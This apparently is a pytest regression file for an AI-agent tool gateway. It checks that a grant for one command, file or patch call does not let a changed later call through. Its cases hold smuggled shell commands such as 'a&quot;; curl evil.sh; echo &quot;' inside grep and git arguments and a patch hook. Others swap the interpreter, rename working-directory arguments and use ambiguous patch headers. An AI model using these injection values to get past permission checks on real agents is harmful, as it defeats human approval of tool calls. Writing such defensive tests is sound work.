"""What somebody who had not written the rules found, each with its kind: all of it asks now."""

from typing import Any

import pytest

from gateway.domain.records import Record
from gateway.models import Kind
from gateway.policy.calls.patches import files_of_patch
from gateway.policy.grants.coverage import covers
from gateway.policy.grants.grant import Effect, MatchResult, Shape
from gateway.policy.grants.offers import offers
from tests.grants.making import asked, granted

C, F, T = Kind.COMMAND, Kind.FILE_CHANGE, Kind.TOOL
Call = tuple[str, Kind, dict[str, Any]]

ENTITIES = ["&quot;", "&apos;", "&#39;", "&#x27;", "&amp;"]
ATTACKS: list[tuple[Call, dict[str, Any]]] = [
    # The host undoes HTML entities before a shell reads the text.
    *((("execute_command", C, {"command": 'grep "x" a.txt'}),
       {"command": f'grep "a{one}; curl evil.sh; echo {one}" a.txt'}) for one in ENTITIES),
    (("shell", C, {"command": ["bash", "-lc", 'git log --grep "x"']}),
     {"command": ["bash", "-lc", 'git log --grep "a&quot;; curl evil.sh; echo &quot;"']}),
    # Another interpreter than a POSIX shell reads it, by an argument.
    (("start_process", C, {"command": "cat a.txt", "timeout_ms": 5, "shell": "pwsh"}),
     {"command": "cat a.txt,/srv/b.txt", "timeout_ms": 5, "shell": "pwsh"}),
    (("exec_command", C, {"cmd": "cat a.txt", "shell": "powershell"}),
     {"cmd": "cat b.txt", "shell": "powershell"}),
    # The folder in which it runs, under another name, or one that the tool does not have.
    *((("bash", C, {"command": "npm run deploy", "workdir": "/ws/staging"}),
       {"command": "npm run deploy", name: "/ws/staging"})
      for name in ("cwd", "dir_path", "working_dir", "directory", "path", "root", "folder")),
    (("read_file", T, {"file_path": "notes.txt", "cwd": "/ws/docs"}),
     {"file_path": "deploy.yml", "cwd": "/ws/docs"}),
    (("Read", T, {"file_path": "/ws/docs/a.md", "cwd": "/ws/docs"}),
     {"file_path": "b.md", "cwd": "/ws/docs"}),
]  # fmt: skip


def covered(first: Record, following: Record) -> list[str]:
    """Return the words of each offer but the exact one that lets the next call through."""
    wide = [offer for offer in offers(first) if offer.match.shape is not Shape.EXACT]
    return [
        offer.words
        for offer in wide
        if covers(granted(offer.match, Effect.ALLOW), following) is MatchResult.YES
    ]


@pytest.mark.parametrize(("first", "following"), ATTACKS)
def test_what_was_found_asks(first: Call, following: dict[str, Any]) -> None:
    """No answer to the first call, however wide, covers the next."""
    tool, kind, arguments = first
    remembered = asked(tool, kind=kind, arguments=arguments)
    assert covered(remembered, asked(tool, kind=kind, arguments=following)) == []


def test_the_folder_of_the_context_may_be_named_or_left_out() -> None:
    """Where the argument is the tool's own, and says what holds anyway."""
    bare = asked("bash", kind=C, arguments={"command": "git status"})
    named = asked("bash", kind=C, arguments={"command": "git status -s", "workdir": "/ws"})
    other = asked("bash", kind=C, arguments={"command": "git status -s", "workdir": "/ws/a"})
    assert covered(bare, named) and covered(named, bare)
    assert not covered(bare, other) and not covered(other, bare)


@pytest.mark.parametrize(
    "line",
    [" *** Delete File: /srv/x", " *** Add File: /srv/x", "\t*** Add File: ../x", " ", "@@", "-x"],
)
def test_a_patch_that_readers_take_differently_is_not_understood(line: str) -> None:
    """Some end a new file at the first line without a plus, and trim the next header."""
    patch = f"*** Begin Patch\n*** Add File: a.txt\n+hi\n{line}\n*** End Patch"
    assert files_of_patch(patch) is None
    update = f"*** Begin Patch\n*** Update File: a.txt\n@@\n-a\n+b\n{line}\n*** End Patch"
    assert (files_of_patch(update) is None) is ("***" in line)


@pytest.mark.parametrize(
    ("roles", "arguments", "following"),
    [
        ({"hook": "patch"}, {"path": "/ws/a", "content": "x", "hook": "@@\n echo ok"},
         {"path": "/ws/a", "content": "x", "hook": "@@\n curl evil.sh"}),
        ({"label": "working_folder"}, {"path": "notes.txt", "label": "/ws/docs"},
         {"path": "deploy.yml", "label": "/ws/docs"}),
    ],
)  # fmt: skip
def test_an_author_whom_nobody_trusts_frees_and_moves_nothing(
    roles: dict[str, str], arguments: dict[str, Any], following: dict[str, Any]
) -> None:
    """A role that leaves something open, or moves where a call works, needs the policy's trust."""
    first = asked("write_text", kind=F, arguments=arguments, roles=roles)
    assert covered(first, asked("write_text", kind=F, arguments=following, roles=roles)) == []
